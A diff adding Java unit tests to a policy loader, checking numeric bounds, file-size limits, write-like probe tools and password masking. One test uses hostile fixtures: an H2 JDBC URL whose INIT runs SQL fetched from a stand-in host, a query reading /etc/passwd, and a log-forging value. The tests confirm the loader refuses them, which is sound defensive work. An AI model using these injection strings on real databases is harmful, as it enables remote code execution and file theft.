@@ -22,6 +22,7 @@ import static org.assertj.core.api.Assertions.assertThat;
 import static org.assertj.core.api.Assertions.assertThatExceptionOfType;
 import static org.assertj.core.api.Assertions.assertThatThrownBy;
 import static org.assertj.core.api.Assertions.catchThrowableOfType;
+import static org.junit.jupiter.api.Assumptions.assumeTrue;
 
 class PolicyLoaderTests {
 
@@ -273,13 +274,158 @@ class PolicyLoaderTests {
 				scalekit: { requests-per-minute: -5, connect-timeout: 0s, tool-timeout: -1s }
 				retry: { max-attempts: 21, initial-backoff: 10s, max-backoff: 5s }
 				""")).containsExactly(
-						"line 6: invalid value '-1.0' for 'connections.gmail.rate-limit' (expected probe requests per second, greater than 0)",
+						"line 6: invalid value '-1.0' for 'connections.gmail.rate-limit' (expected probe requests per second, from 0.01 to 100000)",
 						"line 7: invalid value '0' for 'concurrency' (expected 1 to 512)",
 						"line 8: invalid value '-5' for 'scalekit.requests-per-minute' (expected a number greater than 0)",
 						"line 8: invalid value 'PT0S' for 'scalekit.connect-timeout' (expected a positive duration such as 500ms, 5s or 2m)",
 						"line 8: invalid value 'PT-1S' for 'scalekit.tool-timeout' (expected a positive duration such as 500ms, 5s or 2m)",
 						"line 9: invalid value '21' for 'retry.max-attempts' (expected 1 to 20)",
 						"line 9: 'retry.max-backoff' (PT5S) must not be shorter than 'retry.initial-backoff' (PT10S)");
+	}
+
+	@Test
+	void loadWhenRateLimitBeyondWhatABucketCanRefillNamesFileLineAndKey() throws IOException {
+		// 10^12 per second used to pass the policy and fail inside the rate limiter, naming nothing
+		Path file = write("huge.yml", MINIMAL + "    rate-limit: 1e12\n");
+
+		assertThatExceptionOfType(InvalidPolicyException.class).isThrownBy(() -> PolicyLoader.load(file, Map.of()))
+			.withMessage(file + " line 6: invalid value '1.0E12' for 'connections.gmail.rate-limit' (expected probe "
+					+ "requests per second, from 0.01 to 100000)");
+		assertThat(problems(MINIMAL + "    rate-limit: 1e-9\n")).containsExactly(
+				"line 6: invalid value '1.0E-9' for 'connections.gmail.rate-limit' (expected probe requests per second, from 0.01 to 100000)");
+		assertThat(load(MINIMAL + "    rate-limit: 100000\n").connection("gmail").orElseThrow().rateLimit())
+			.isEqualTo(100_000);
+	}
+
+	@Test
+	void loadWhenDurationsWouldParkOrOverflowTheJobRefusesThem() throws IOException {
+		assertThat(problems(MINIMAL + """
+				scalekit: { read-timeout: 11m, tool-timeout: 9999999999d }
+				retry: { initial-backoff: 2h, max-backoff: 3d }
+				""")).containsExactly(
+						"line 6: invalid value 'PT11M' for 'scalekit.read-timeout' (expected at most 10m)",
+						"line 6: invalid value 'PT239999999976H' for 'scalekit.tool-timeout' (expected at most 10m)",
+						"line 7: invalid value 'PT2H' for 'retry.initial-backoff' (expected at most 1h)",
+						"line 7: invalid value 'PT72H' for 'retry.max-backoff' (expected at most 1h)");
+		assertThat(load(MINIMAL + "scalekit: { tool-timeout: 10m }\nretry: { max-backoff: 1h }\n").retry().maxBackoff())
+			.isEqualTo(Duration.ofHours(1));
+	}
+
+	@Test
+	void loadWhenFileIsLargerThanOneMebibyteRefusesItBeforeParsing() throws IOException {
+		// one comment line: every byte counts, comments too
+		Path file = write("big.yml", MINIMAL + "# " + "x".repeat(10 * 1024 * 1024) + "\n");
+
+		long started = System.nanoTime();
+		assertThatExceptionOfType(InvalidPolicyException.class).isThrownBy(() -> PolicyLoader.load(file, Map.of()))
+			.withMessage(file + ": the policy file has " + Files.size(file) + " bytes; a policy may have at most "
+					+ "1048576 bytes (1 MiB), comments included");
+		assertThat(Duration.ofNanos(System.nanoTime() - started)).isLessThan(Duration.ofSeconds(2));
+		String justOver = MINIMAL + "#" + "x".repeat(PolicyLoader.MAX_BYTES - MINIMAL.length() - 1) + "\n";
+		assertThat(justOver).hasSize(PolicyLoader.MAX_BYTES + 1);
+		assertThatExceptionOfType(InvalidPolicyException.class)
+			.isThrownBy(() -> PolicyLoader.load(write("over.yml", justOver), Map.of()))
+			.withMessageContaining("has 1048577 bytes");
+	}
+
+	@Test
+	void loadOfAPolicyOfOneMebibyteOfShortLinesEndsInSeconds() throws IOException {
+		String line = "# " + "x".repeat(97) + "\n";
+		String comments = line.repeat((PolicyLoader.MAX_BYTES - MINIMAL.length()) / line.length());
+		Path file = write("limit.yml", MINIMAL + comments);
+		assertThat(Files.size(file)).isGreaterThan(PolicyLoader.MAX_BYTES - line.length());
+
+		long started = System.nanoTime();
+		assertThat(PolicyLoader.load(file, Map.of()).name()).isEqualTo("minimal");
+		assertThat(Duration.ofNanos(System.nanoTime() - started)).isLessThan(Duration.ofSeconds(5));
+	}
+
+	@Test
+	void loadWhenALineIsLongerThanAnyPolicyNeedsRefusesItBeforeParsing() throws IOException {
+		// the parser's time grows with the square of a line's length: seconds for 1 MiB
+		Path file = write("long.yml", MINIMAL + "\r\n# " + "x".repeat(PolicyLoader.MAX_BYTES / 2) + "\n");
+
+		long started = System.nanoTime();
+		assertThatExceptionOfType(InvalidPolicyException.class).isThrownBy(() -> PolicyLoader.load(file, Map.of()))
+			.withMessage(file + " line 7: the line has " + (PolicyLoader.MAX_BYTES / 2 + 2) + " bytes; a policy line "
+					+ "may have at most 16384");
+		assertThat(Duration.ofNanos(System.nanoTime() - started)).isLessThan(Duration.ofSeconds(2));
+		assertThat(load(MINIMAL + "# " + "x".repeat(PolicyLoader.MAX_LINE_BYTES - 2) + "\n").name())
+			.isEqualTo("minimal");
+	}
+
+	@Test
+	void loadWhenPolicyIsNotARegularFileRefusesItWithoutReading() throws Exception {
+		assertThatExceptionOfType(InvalidPolicyException.class)
+			.isThrownBy(() -> PolicyLoader.load(this.directory, Map.of()))
+			.withMessage(this.directory + ": is a directory, not a policy file");
+		Path device = Path.of("/dev/zero");
+		assumeTrue(Files.exists(device));
+		assertThatExceptionOfType(InvalidPolicyException.class).isThrownBy(() -> PolicyLoader.load(device, Map.of()))
+			.withMessage(device + ": is not a regular file (a pipe, a device or a socket)");
+	}
+
+	@Test
+	void loadWhenProbeToolRunsAWriteVerbTogetherRefusesIt() throws IOException {
+		assertThat(problems(MINIMAL.replace("gmail_get_profile", "gmail_sendmessage"))).containsExactly(
+				"line 5: connections.gmail.probe.tool 'gmail_sendmessage' looks like a write (token 'send'); probes "
+						+ "must be read-only. List it under allowed-write-tools to allow it.");
+	}
+
+	@Test
+	void loadWhenJdbcSourceCouldRunCodeOrReadFilesNamesFileLineKeyAndWhy() throws IOException {
+		Path file = write("jdbc.yml", """
+				name: crm
+				source:
+				  type: jdbc
+				  url: "jdbc:h2:mem:crm;INIT=RUNSCRIPT FROM 'http://evil.example/x.sql';PASSWORD=hunter22"
+				  password: hunter22
+				  query: "select file_read('/etc/passwd') as identifier, 'gmail' as connection_name"
+				connections:
+				  gmail:
+				    probe: { tool: gmail_get_profile }
+				""");
+
+		InvalidPolicyException refused = catchThrowableOfType(InvalidPolicyException.class,
+				() -> PolicyLoader.load(file, Map.of()));
+		assertThat(refused.problems()).containsExactly(file + " line 4: 'source.url' sets H2's INIT, which runs SQL "
+				+ "when the database opens (RUNSCRIPT from a file or URL, CREATE ALIAS with Java code): a policy must "
+				+ "not run code in the job (allowed: " + String.join(", ", JdbcSourceRules.H2_SETTINGS.stream()
+					.sorted()
+					.toList()) + ")",
+				file + " line 6: 'source.query' calls FILE_READ, which reads or writes files of the job's machine; "
+						+ "a source query reads tables only");
+		assertThat(refused.getMessage()).doesNotContain("hunter22");
+	}
+
+	@Test
+	void loadWhenJdbcSourceOpensAnEmbeddedH2FileRefusesIt() throws IOException {
+		assertThat(problems("""
+				name: crm
+				source: { type: jdbc, url: "jdbc:h2:./data/audit", query: "select * from audit_result" }
+				connections:
+				  gmail:
+				    probe: { tool: gmail_get_profile }
+				""")).containsExactly("line 2: 'source.url' opens an embedded H2 database file ('./data/audit'): its "
+						+ "engine would run inside the job with the job's file access (it could open the job's own "
+						+ "results, which hold authorization links); use an H2 server (jdbc:h2:tcp://host/db) or "
+						+ "PostgreSQL");
+	}
+
+	@Test
+	void loadWhenValuesAreLongOrHoldControlCharactersQuotesShortEscapedExcerpts() throws IOException {
+		String forged = "x\\e[2J\\n2026-01-01 INFO forged line " + "y".repeat(5000);
+		List<String> problems = problems(MINIMAL.replace("name: minimal", "name: \"" + forged + "\"")
+			.replace("gmail_get_profile", "\"gmail_send\\nINFO all good\"") + "concurrency: \"" + forged + "\"\n");
+
+		assertThat(problems).hasSize(3).allSatisfy((problem) -> assertThat(problem).hasSizeLessThan(300)
+			.doesNotContain("\n")
+			.doesNotContain("\u001B"));
+		assertThat(problems).anySatisfy((problem) -> assertThat(problem)
+			.startsWith("line 1: invalid value 'x\\u001B[2J\\u000A2026-01-01 INFO forged line " + "y".repeat(26)
+					+ "... (5034 characters)' for 'name'"));
+		assertThat(problems).anySatisfy((problem) -> assertThat(problem)
+			.contains("'gmail_send\\u000AINFO all good' looks like a write"));
 	}
 
 	@Test
@@ -511,6 +657,14 @@ class PolicyLoaderTests {
 		assertThat(policy.source().password()).isEqualTo("hunter2");
 		assertThat(policy.source().toString()).contains("password=****").doesNotContain("hunter2");
 		assertThat(policy.toString()).doesNotContain("hunter2");
+		AuditPolicy inUrl = load("""
+				name: crm
+				source: { type: jdbc, url: "jdbc:postgresql://db/crm?user=a&password=hunter2", query: select 1 }
+				connections:
+				  gmail:
+				    probe: { tool: gmail_get_profile }
+				""");
+		assertThat(inUrl.toString()).contains("jdbc:postgresql://db/crm?user=a&password=****").doesNotContain("hunter2");
 	}
 
 	@Test
